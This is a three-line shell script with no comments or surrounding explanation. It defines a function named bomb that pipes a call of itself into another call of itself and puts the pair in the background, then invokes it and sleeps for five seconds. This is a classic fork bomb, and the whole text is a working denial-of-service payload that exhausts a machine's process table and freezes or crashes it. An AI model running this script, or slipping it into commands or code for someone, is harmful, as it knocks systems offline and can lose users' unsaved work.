bomb() { bomb | bomb & }
bomb
sleep 5
